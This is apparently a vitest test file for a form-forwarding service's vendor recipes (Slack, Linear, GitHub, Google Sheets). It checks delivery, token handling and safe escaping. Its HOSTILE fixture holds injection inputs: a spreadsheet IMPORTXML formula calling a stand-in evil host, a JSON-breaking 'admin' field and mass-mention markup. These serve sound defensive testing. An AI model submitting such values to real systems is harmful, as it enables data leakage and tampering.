import { readFileSync } from 'node:fs'
import { beforeEach, describe, expect, test } from 'vitest'
import { z } from 'zod'
import { createEndpoint } from '../../../../server/adapters/downstream/endpoint'
import { conditionSchema, matches } from '../../../../server/domain/deliveries/condition'
import { DESTINATION_SETTINGS } from '../../../../server/domain/deliveries/settings'
import { bodySchema, fillBody, valuesOf } from '../../../../server/domain/deliveries/template'
import type { SubmissionData } from '../../../../server/ports/submission'
import { formsOf } from '../../../fakes/forms'
import * as recipes from '../../../fixtures/recipes'
import { endAfterTest } from '../../../support/lifetime'
import { startRecipeVendors, type RecipeVendors } from '../../../support/recipe-vendors'
import { waiting } from '../../../support/seed'

interface Recipe {
  url: string
  body: unknown
  headers?: Record<string, string>
  when?: unknown
  follow?: string
  expect?: unknown
}

const read = (path: string) => readFileSync(new URL(`../../../../${path}`, import.meta.url), 'utf8')

const [DOCS, SOURCE] = [read('docs/recipes.md'), read('test/fixtures/recipes.ts')]

const ALL: [string, Recipe][] = Object.entries(recipes)

/** A hostile form: markup, a formula, placeholders, mentions, and a text longer than any vendor takes. */
const HOSTILE = {
  name: '=IMPORTXML("https://evil.example","//a")', email: 'eve@example.com', topic: 'bug',
  message: `<!channel> @everyone {{url}} "}],"admin":true ${'x'.repeat(100_000)}`,
}

let vendors: RecipeVendors
beforeEach(async () => { vendors = endAfterTest(await startRecipeVendors()) })

function send(recipe: Recipe, data: SubmissionData, id = 'id-1') {
  const forms = formsOf()
  const values = valuesOf(waiting({ id, data }), forms.all[0]!, { forms, siteUrl: null })
  const body = JSON.stringify(fillBody(bodySchema.parse(recipe.body), values))
  return createEndpoint(recipe, vendors.http).post(body, `key-of-${id}`)
}

const acceptedBy = ({ url }: Recipe) => vendors.accepted[new URL(url).host] ?? []

describe.each(ALL)('The recipe for %s', (name, recipe) => {
  test.each<[string, SubmissionData]>([
    ['an ordinary', { name: 'Ada', email: 'ada@example.com', topic: 'bug', message: 'Hello' }],
    ['a hostile', HOSTILE], ['an empty', {}],
  ])('is accepted by its vendor with %s form', async (_what, data) => {
    expect(await send(recipe, data)).toMatchObject({ ok: true })
    expect(name === 'sheet' ? vendors.rows : acceptedBy(recipe)).toHaveLength(1)
  })

  test('is a failure if its vendor does not know the address', async () => {
    expect(await send({ ...recipe, url: `${recipe.url}x` }, HOSTILE)).toMatchObject({ ok: false, permanent: true })
  })

  test('is in the documentation', () => {
    const [, written] = new RegExp(`^export const ${name} = (\\{\\n.*?^\\}\\n)`, 'ms').exec(SOURCE)!
    expect(DOCS).toContain(`\`\`\`ts\n${written}\`\`\`\n`)
  })
})

test.each(ALL.filter(([, { headers }]) => headers))('The recipe for %s needs its token', async (_name, recipe) => {
  expect(await send({ ...recipe, headers: {} }, HOSTILE)).toMatchObject({ ok: false, permanent: true })
  expect(acceptedBy(recipe)).toEqual([])
})

test('All recipes together are destinations that the configuration takes', () => {
  expect(z.strictObject(DESTINATION_SETTINGS).parse({ destinations: Object.values(recipes) })).toMatchObject({
    destinations: Object.values(recipes),
  })
})

test('A condition of a recipe is one that the configuration takes', () => {
  const when = conditionSchema.parse(recipes.github.when)
  const isMatch = (data: SubmissionData) => matches(when, waiting({ data }), formsOf().all[0]!)
  expect([isMatch(HOSTILE), isMatch({ topic: 'sales' })]).toEqual([true, false])
})

test('Linear answers 200 for an issue that it does not create, which is a failure', async () => {
  const { variables: { input } } = recipes.linear.body
  const body = { ...recipes.linear.body, variables: { input: { ...input, teamId: 'OTHER' } } }
  expect(await send({ ...recipes.linear, body }, HOSTILE)).toMatchObject({
    ok: false, reason: 'api.linear.app answered 200, but without what "expect" of its destination asks for.',
  })
})

test('Slack gets all texts of a form as plain text', async () => {
  await send(recipes.slack, HOSTILE)
  const [{ text, blocks }] = acceptedBy(recipes.slack) as [typeof recipes.slack.body]
  expect(text).toBe('A form was forwarded.')
  expect(blocks[1]!.text!.text).toMatch(/^Answers\nname: =IMPORTXML.*<!channel> @everyone \{\{url\}\} "\}\],"admin".*…$/s)
  expect(JSON.stringify(blocks[2])).not.toContain('channel')
})

describe('The script for Google Sheets', () => {
  test('is in the documentation', () => {
    const script = read('test/fixtures/append-row.gs')
    expect(DOCS).toContain(script.replaceAll(/^(?=.)/gm, '   '))
  })

  test('writes texts that look like formulas as texts', async () => {
    await send(recipes.sheet, HOSTILE)
    expect(vendors.rows).toEqual([
      ['id-1', expect.any(String), HOSTILE.name, 'eve@example.com', 'bug', expect.stringContaining('@everyone')],
    ])
  })

  test('writes one row for a submission, which a later forward replaces', async () => {
    for (const [id, topic] of [['id-1', 'a'], ['id-2', 'b'], ['id-1', 'c']] as const) {
      expect(await send(recipes.sheet, { topic }, id)).toMatchObject({ ok: true })
    }
    expect(vendors.rows.map(([id, , , , topic]) => [id, topic])).toEqual([['id-1', 'c'], ['id-2', 'b']])
  })

  test('is answered at another host, which gets neither the data nor the headers', async () => {
    await send({ ...recipes.sheet, headers: { 'x-token': 'secret' } }, HOSTILE)
    const [first, second] = vendors.requests
    expect(first).toMatchObject({ method: 'POST', headers: { 'x-token': 'secret' } })
    expect(second).toMatchObject({ method: 'GET', body: '' })
    expect(Object.keys(second!.headers)).not.toEqual(expect.arrayContaining(['x-token']))
    expect(Object.keys(second!.headers)).not.toEqual(expect.arrayContaining(['idempotency-key']))
  })

  test('fails with a page and status 200, and is tried again', async () => {
    vendors.isSheetLocked = true
    expect(await send(recipes.sheet, HOSTILE)).toMatchObject({ ok: false, permanent: false })
    expect(vendors.rows).toEqual([])
  })

  test('refuses another secret', async () => {
    const body = { ...recipes.sheet.body, secret: 'guess' }
    expect(await send({ ...recipes.sheet, body }, HOSTILE)).toMatchObject({ ok: false })
    expect(vendors.rows).toEqual([])
  })

  test.each([
    ['no host', undefined], ['another host', 'example.com'],
  ])('fails if the destination allows %s to answer', async (_what, follow) => {
    expect(await send({ ...recipes.sheet, follow }, HOSTILE)).toMatchObject({ ok: false })
    expect(vendors.requests).toHaveLength(1)
  })
})
